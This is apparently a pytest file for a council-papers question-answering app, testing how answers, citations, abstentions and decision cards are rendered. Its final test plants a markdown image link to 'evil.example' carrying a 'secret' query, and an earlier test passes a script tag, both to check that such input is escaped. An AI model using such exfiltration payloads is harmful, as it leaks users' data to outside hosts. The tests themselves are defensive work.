"""How answers are shown and exported: quotes with citation numbers, cards, filters, abstentions."""

from dataclasses import replace
from html import escape

import pytest

from councilqa.answer.ask import ABSTAIN, Assistant
from councilqa.app.present import (
    answer_cards,
    chat_markdown,
    export_markdown,
    highlight,
    resolution_cards,
)
from councilqa.app.resolutions import list_decisions
from councilqa.records import DecisionFilter, Quote, SearchFilter, Sentence


@pytest.fixture(scope="module")
def tariff(sample_settings, sample_index):
    return Assistant(sample_settings, sample_index).ask("What is the two-hour tariff at Mill Lane car park?")


@pytest.mark.model
def test_export_lists_every_citation_with_printed_and_pdf_pages(tariff):
    text = export_markdown(tariff)
    assert text.startswith("# What is the two-hour tariff at Mill Lane car park?\n")
    assert "## Sources" in text
    for c in tariff.citations:
        assert f"[{c.rank}] **{c.title}**" in text and f"`{c.doc}`" in text and f"> {c.text}" in text
    assert "Public reports pack**, Cabinet, 2026-03-12, Page 2 · PDF p.4:" in text


@pytest.mark.model
def test_quotes_come_from_the_answer_and_are_highlighted_in_their_cards(tariff):
    quotes = tariff.quotes
    assert quotes and all(q.text in tariff.citations[q.citation - 1].text for q in quotes)
    html, refs = answer_cards(tariff)
    assert set(refs) == {f"a{c.rank}" for c in tariff.citations}
    assert html.count('class="cq-card"') == len(tariff.citations) and "<h3>Sources</h3>" in html
    assert html.count("<mark>") >= 1 and "Page 2 · PDF p.4" in html
    first = refs[f"a{quotes[0].citation}"]
    assert quotes[0].text in first.quotes and first.excerpt == tariff.citations[quotes[0].citation - 1].text
    message = chat_markdown(tariff)
    assert f"**[{quotes[0].citation}]**" in message and "Filtered" not in message


def test_abstention_shows_closest_matches(tariff):
    abstained = replace(tariff, abstained=True, quotes=(), answer=ABSTAIN)
    assert chat_markdown(abstained).startswith("**The papers don't answer this.**")
    html, _ = answer_cards(abstained)
    assert "<h3>Closest matches</h3>" in html and "<mark>" not in html
    assert "## Closest matches" in export_markdown(abstained)


def test_an_abstention_with_a_reason_shows_it(tariff):
    reason = "No minutes of a meeting on 3 June 2019 are indexed, so the papers don't record what was decided there."
    abstained = replace(tariff, abstained=True, quotes=(), answer=reason)
    assert escape(reason) in chat_markdown(abstained) and reason in export_markdown(abstained)


def test_filters_are_shown(tariff):
    filtered = replace(tariff, filters=SearchFilter(committee="cabinet"))
    assert "*Filtered to committee ~ cabinet*" in chat_markdown(filtered)
    assert "*Filtered to committee ~ cabinet*" in export_markdown(filtered)
    note = "Searched only meetings on 2026-03-12, as the question says (12 March 2026)."
    stated = replace(filtered, filter_note=note)
    assert f"*{note}*" in chat_markdown(stated) and "Filtered to" not in chat_markdown(stated)


def test_text_from_the_papers_is_escaped():
    assert highlight("<script>x</script> Keep. Mark <me>.", ["Mark <me>."]) == (
        "&lt;script&gt;x&lt;/script&gt; Keep. <mark>Mark &lt;me&gt;.</mark>"
    )


def test_resolution_cards(sample_index):
    found = list_decisions(sample_index, DecisionFilter(search="leisure"))
    html, refs = resolution_cards(found)
    assert len(found) == 1 and set(refs) == {"r1", "r1-report"} and "1 decision<" in html
    ref = refs["r1"]
    assert ref.doc.startswith("riverford/Printed minutes") and "Riverside Leisure Centre" in ref.excerpt
    assert ref.where == "Page 2 · PDF p.2"
    assert '<div class="cq-outcome"><b>resolution agreed</b> · delegated to ' in html
    report = refs["r1-report"]  # the report's first page, its title marked
    assert (report.doc, report.pdf_page, report.where) == (
        "riverford/Public reports pack 12th-Mar-2026 18.30 Cabinet.pdf",
        6,
        "Page 4 · PDF p.6–9",
    )
    assert report.excerpt == "Riverside Leisure Centre Refurbishment"
    assert 'data-ref="r1-report"' in html and "Riverside Leisure Centre Refurbishment · Page 4 · PDF p.6–9</a>" in html


def test_resolution_cards_show_the_vote_and_movers(sample_index):
    html, refs = resolution_cards(list_decisions(sample_index, DecisionFilter(outcome="lost")))
    assert set(refs) == {"r1", "r1-report"} and "1 decision<" in html
    assert "<b>amendment lost</b> · For (2), Against (5) · proposed by Councillor Brennan</div>" in html
    assert "<span class=cq-meeting>Cabinet · 2026-03-12 · 39. Household Waste Collection Contract</span>" in html
    html, refs = resolution_cards([])
    assert refs == {} and "0 decisions" in html


def test_markdown_in_a_paper_or_a_models_sentence_does_nothing(tariff):
    """A link or image written in a paper (or in a model's sentence) shows as written: no image loads from
    another site when the answer is shown."""
    planted = "See ![chart](https://evil.example/a.png?q=secret) and [this](https://evil.example)."
    shown = chat_markdown(replace(tariff, quotes=(Quote(1, planted),)))
    assert "](https://" not in shown and "\\!\\[chart\\]\\(https://evil.example/a.png?q=secret\\)" in shown
    prose = replace(tariff, answer_mode="prose", sentences=(Sentence(planted, (1,)),))
    assert "](https://" not in chat_markdown(prose)
